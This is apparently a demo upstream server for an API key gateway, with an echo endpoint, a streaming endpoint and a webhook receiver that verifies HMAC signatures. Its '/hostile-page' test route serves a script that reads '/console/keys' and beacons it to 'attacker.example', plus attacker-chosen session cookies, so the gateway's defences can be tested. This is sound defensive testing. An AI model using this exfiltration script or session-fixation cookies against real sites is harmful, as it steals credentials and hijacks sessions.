// The demo upstream `npm run dev` starts beside the gateway (and the tests use as their local
// upstream): it echoes what it received, so you can see what the gateway forwards. It is also a
// webhook receiver (/webhooks), so you can see the events keygate delivers.
const encoder = new TextEncoder();

// ---- The demo webhook receiver ------------------------------------------------------------------
// POST /webhooks keeps what arrived (the last 50, in this isolate's memory: a restart forgets them);
// `?status=503` answers that status instead, to watch the retries. GET /webhooks shows them, newest
// first (HTML for a browser, JSON otherwise); with `?secret=whsec_…` (the secret shown when you
// registered the endpoint) it checks each one's signature as a receiver must: the HMAC-SHA256 of
// "{webhook-id}.{webhook-timestamp}.{raw body}" under the secret's base64-decoded bytes, and the
// timestamp within 5 minutes of arrival. Written without keygate's code: an independent receiver.
const MAX_ARRIVALS = 50;
const MAX_WEBHOOK_BODY = 64 * 1024;
const TOLERANCE_SECONDS = 5 * 60;
const arrivals = [];

const fromBase64 = (text) => Uint8Array.from(atob(text), (c) => c.charCodeAt(0));

async function checkSignature(secret, arrival) {
  const { "webhook-id": id, "webhook-timestamp": timestamp, "webhook-signature": signatures } = arrival.headers;
  if (!id || !timestamp || !signatures) return "unsigned: webhook-id, webhook-timestamp or webhook-signature missing";
  if (!/^\d+$/.test(timestamp) || Math.abs(Math.floor(arrival.receivedAt / 1000) - Number(timestamp)) > TOLERANCE_SECONDS) {
    return "invalid: timestamp more than 5 minutes from arrival";
  }
  let key;
  try {
    key = await crypto.subtle.importKey("raw", fromBase64(secret.replace(/^whsec_/, "")), { name: "HMAC", hash: "SHA-256" }, false, ["verify"]);
  } catch {
    return "the secret given is not a whsec_ secret";
  }
  for (const candidate of signatures.split(" ")) {
    const [version, mac] = candidate.split(",");
    if (version !== "v1" || !mac) continue;
    try {
      if (await crypto.subtle.verify("HMAC", key, fromBase64(mac), encoder.encode(`${id}.${timestamp}.${arrival.body}`))) return "valid";
    } catch {
      // not base64: not a match
    }
  }
  return "invalid: no signature matches this secret";
}

const escapeHtml = (s) => String(s).replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

async function webhookReceiver(request, url) {
  if (request.method === "POST") {
    const body = await request.text();
    const headers = {};
    for (const name of ["webhook-id", "webhook-timestamp", "webhook-signature", "content-type", "user-agent"]) {
      if (request.headers.has(name)) headers[name] = request.headers.get(name);
    }
    arrivals.unshift({ receivedAt: Date.now(), headers, body: body.slice(0, MAX_WEBHOOK_BODY) });
    arrivals.length = Math.min(arrivals.length, MAX_ARRIVALS);
    const status = Number(url.searchParams.get("status") ?? 200);
    const answer = status >= 200 && status <= 599 ? status : 200;
    return Response.json({ received: true, status: answer }, { status: answer, headers: { "x-demo-upstream": "webhooks" } });
  }
  if (request.method !== "GET") return new Response(null, { status: 405, headers: { allow: "GET, POST" } });
  const secret = url.searchParams.get("secret");
  const shown = await Promise.all(
    arrivals.map(async (a) => {
      let payload = null;
      try {
        payload = JSON.parse(a.body);
      } catch {
        // not JSON: shown as text
      }
      return {
        receivedAt: new Date(a.receivedAt).toISOString(),
        signature: secret ? await checkSignature(secret, a) : "not checked: add ?secret=whsec_… to check",
        headers: a.headers,
        payload: payload ?? a.body,
      };
    }),
  );
  if (!(request.headers.get("accept") ?? "").includes("text/html")) {
    return Response.json({ receiver: "keygate demo webhook receiver", count: shown.length, arrivals: shown }, { headers: { "x-demo-upstream": "webhooks" } });
  }
  const rows = shown
    .map(
      (a) =>
        `<section><h2>${escapeHtml(a.payload?.type ?? "(not JSON)")} <small>${escapeHtml(a.receivedAt)}</small></h2>` +
        `<p>Signature: <strong>${escapeHtml(a.signature)}</strong></p>` +
        `<pre>${escapeHtml(JSON.stringify(a.headers, null, 2))}</pre><pre>${escapeHtml(JSON.stringify(a.payload, null, 2))}</pre></section>`,
    )
    .join("");
  const page =
    `<!doctype html><meta charset="utf-8"><title>Webhooks received</title>` +
    `<h1>Webhooks received (${shown.length})</h1>` +
    `<form><label>Signing secret <input name="secret" size="60" placeholder="whsec_…" value="${escapeHtml(secret ?? "")}"></label> <button>Check signatures</button></form>` +
    (rows || "<p>Nothing yet: register an endpoint, then change a key.</p>");
  return new Response(page, { headers: { "content-type": "text/html; charset=utf-8", "x-demo-upstream": "webhooks" } });
}

export default {
  async fetch(request) {
    const url = new URL(request.url);
    if (url.pathname === "/webhooks") return webhookReceiver(request, url);
    if (url.pathname === "/stream") {
      // A long streamed body: proves the gateway streams instead of buffering.
      const chunks = Math.min(Number(url.searchParams.get("chunks") ?? 100), 10_000);
      let i = 0;
      const body = new ReadableStream({
        pull(controller) {
          if (i >= chunks) return controller.close();
          controller.enqueue(encoder.encode(`chunk ${i++} ${"x".repeat(1000)}\n`));
        },
      });
      return new Response(body, { headers: { "content-type": "text/plain", "x-demo-upstream": "stream" } });
    }
    if (url.pathname.endsWith("/hostile-page")) {
      // What a compromised or careless upstream could send: a page with script that reads the
      // console's CSRF token, and cookies aimed at the console's session. The gateway must defuse it.
      const headers = new Headers({ "content-type": "text/html; charset=utf-8", "x-demo-upstream": "hostile-page" });
      headers.set("content-security-policy", "sandbox allow-scripts allow-same-origin allow-forms; img-src 'self'");
      headers.append("set-cookie", "keygate_session=attacker-chosen-session-id-000000000000000000; Path=/console; HttpOnly");
      headers.append("set-cookie", "__Host-fixed=1; Path=/; Secure");
      headers.append("set-cookie", "tracker=1");
      headers.set("clear-site-data", '"cookies", "storage"');
      headers.set("service-worker-allowed", "/");
      const page =
        "<!doctype html><title>upstream</title><script>" +
        "fetch('/console/keys').then(r => r.text()).then(t => navigator.sendBeacon('https://attacker.example/', t));" +
        "</script><form method=post action=/console/sign-out><button>Sign out</button></form>";
      return new Response(page, { headers });
    }
    const body = request.body ? await request.text() : "";
    return Response.json(
      {
        upstream: "keygate demo upstream",
        method: request.method,
        path: url.pathname,
        query: url.search,
        headers: Object.fromEntries(request.headers),
        bodyLength: body.length,
        bodySha256: [...new Uint8Array(await crypto.subtle.digest("SHA-256", encoder.encode(body)))]
          .map((b) => b.toString(16).padStart(2, "0"))
          .join(""),
      },
      { status: url.pathname.endsWith("/teapot") ? 418 : 200, headers: { "x-demo-upstream": "echo", "set-cookie": "demo=1; Path=/" } },
    );
  },
};
